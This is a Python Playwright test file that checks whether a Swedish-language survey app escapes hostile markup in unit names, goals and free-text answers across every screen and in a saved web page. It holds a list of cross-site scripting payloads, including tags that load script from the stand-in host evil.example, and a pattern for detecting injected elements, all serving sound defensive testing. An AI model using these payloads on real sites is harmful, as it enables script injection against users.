"""Words that would be code elsewhere, seen on every screen of a round and in what is saved."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from collecting import KEY, Collector, Workshop, new_round, response
from playwright.sync_api import BrowserContext, Dialog, Page, expect
from round_house import SAVED, Answering
from serving import Server
from windows import questionnaire

HOSTILE = [
    "<script>hacked=1</script>",
    "</script><script>hacked=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "<img src=x onerror=hacked=1>",
    "<img src=//evil.example/x.png>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=hacked=1>",
    "<svg/onload=hacked=1>",
    "<svg><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x>",
    "<math><mtext><style><img src=x onerror=hacked=1>",
    "<body onload=hacked=1>",
    "<details open ontoggle=hacked=1>",
    "<input autofocus onfocus=hacked=1>",
    "<video><source onerror=hacked=1></video>",
    "<iframe src=javascript:parent.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<object data=//evil.example></object>",
    "<embed src=javascript:hacked=1>",
    "<a href=javascript:hacked=1>klicka</a>",
    "javascript:alert(1)//",
    "[klicka](javascript:hacked=1)",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</form>",
    '" onmouseover="hacked=1" autofocus onfocus="hacked=1',
    "</textarea></title></style><img src=x onerror=hacked=1>",
    "{{constructor.constructor('hacked=1')()}}",
    "${hacked=1}`;hacked=1;//",
    "';alert(1)//\\';alert(1)//--></script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>",
]
"""Each of sixty characters at most, as a unit's name may be."""
STRAYS = """() => [...document.querySelectorAll("*")]
  .filter((one) => ["SCRIPT", "script"].includes(one.nodeName)
    ? !/json/.test(one.type) && /hacked|alert\\(1|evil/.test(one.textContent + one.src)
    : /^(iframe|object|embed|base|animate|math|video)$/i.test(one.nodeName)
      || [...one.attributes].some(({ name, value }) => /^on/.test(name)
        || /^(src|href|action|data|content)$/.test(name) && /^javascript:|evil/.test(value)))
  .map((one) => one.outerHTML)"""


@dataclass
class Watched:
    """A browser in which whatever the words bring about is noted."""

    context: BrowserContext
    home: str
    noted: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.context.on("page", self._watch)
        self.context.on("request", lambda request: self._asked(request.url))

    def _watch(self, page: Page) -> None:
        page.on("dialog", self._spoken)

    def _spoken(self, dialog: Dialog) -> None:
        self.noted.append(dialog.message)
        dialog.dismiss()

    def _asked(self, url: str) -> None:
        if not url.startswith((self.home, "data:", "blob:")):
            self.noted.append(url)

    def shows(self, page: Page, words: list[str]) -> None:
        """See that a page has the words as they are, and nothing made of them."""
        text = page.locator("body").text_content() or ""
        boxes = page.locator("input, textarea").evaluate_all("all => all.map((one) => one.value)")
        whole = "\n".join([text, *boxes])
        assert [one for one in words if one not in whole] == []
        assert page.evaluate(STRAYS) == []
        assert page.evaluate("window.hacked") is None
        assert self.noted == []


@pytest.fixture
def hostile(round_site: Server) -> Workshop:
    """Open a round in which every name is meant as code."""
    api = f"{round_site.address}kit/api/"
    collector = Collector(api, round_site.process, round_site.errors, "")
    for words in HOSTILE:
        new_round(collector, name=words)
    made = new_round(collector, name=HOSTILE[4], units=HOSTILE, goals=HOSTILE[:10])
    return made.opened()


def half_answer(workshop: Workshop) -> None:
    """Let twelve people answer, half of them in each of two units."""
    asked = workshop.asked()
    items = [item.id for item in questionnaire("puls-10").rated()]
    for number in range(12):
        person = workshop.participant()
        given = {item: str(1 + (2 * number + 3 * n) % 5) for n, item in enumerate(items)}
        about = {"unit": f"u{5 + number % 2}"}
        more: dict[str, Any] = {"answers": given, "background": about, "role": "all"}
        more["status"] = "finished"
        said = person.put(f"{workshop.path}/response", response(person, asked, **more))
        assert said.status == 200, said.body


def test_a01_what_is_meant_as_code_is_only_words_on_every_screen(
    hostile: Workshop,
    round_site: Server,
    new_context: Callable[..., BrowserContext],
    tmp_path: Path,
) -> None:
    watched = Watched(new_context(accept_downloads=True), round_site.address)
    start = watched.context.new_page()
    start.goto(f"{round_site.address}ledare#{KEY}")
    expect(start.get_by_label("Rundans namn", exact=True)).to_be_visible()
    watched.shows(start, HOSTILE)

    console, wall = (Watched(new_context(), round_site.address) for _ in range(2))
    leading, hung = console.context.new_page(), wall.context.new_page()
    place = f"round={hostile.id}"
    leading.goto(f"{round_site.address}ledare?{place}#{hostile.facilitator_key}")
    hung.goto(f"{round_site.address}presentation?{place}#{hostile.presenter_key}")
    for page in (leading, hung):
        expect(page.get_by_role("heading", name=HOSTILE[4])).to_be_visible()
    leading.get_by_role("heading", name="Inställningar").click()
    expect(leading.get_by_label("Enheter, en per rad")).to_have_value("\n".join(HOSTILE))
    console.shows(leading, [HOSTILE[4], *HOSTILE])
    wall.shows(hung, [HOSTILE[4]])

    person = Answering(watched.context.new_page(), round_site, hostile).join()
    watched.shows(person.page, HOSTILE)
    person.begin()
    box = person.page.locator("[data-item=wish] textarea")
    while not box.is_visible():
        person.page.locator(".kit-ways button").first.click()
        still = person.page.get_by_role("button", name="Fortsätt ändå")
        if still.count():
            still.click()
    box.fill("\n".join(HOSTILE)[:500])
    person.says(SAVED)
    person.press("Kontrollera svaren")
    watched.shows(person.page, HOSTILE[:8])
    person.page.locator(".kit-file summary").first.click()
    with person.page.expect_download() as saving:
        person.press("Spara som webbsida")
    saved = tmp_path / "page.html"
    saving.value.save_as(saved)
    alone = Watched(new_context(), saved.as_uri())
    page = alone.context.new_page()
    page.goto(saved.as_uri())
    alone.shows(page, [])
    assert page.locator("script").count() == 0

    half_answer(hostile)
    hostile.leader.put(f"{hostile.path}/status", {"status": "closed"})
    said = hostile.leader.put(f"{hostile.path}/reveal", {"views": ["units"]})
    assert said.status == 200, said.body
    expect(hung.locator("[data-view=units]")).to_be_visible()
    wall.shows(hung, HOSTILE[4:6])
    console.shows(leading, HOSTILE)
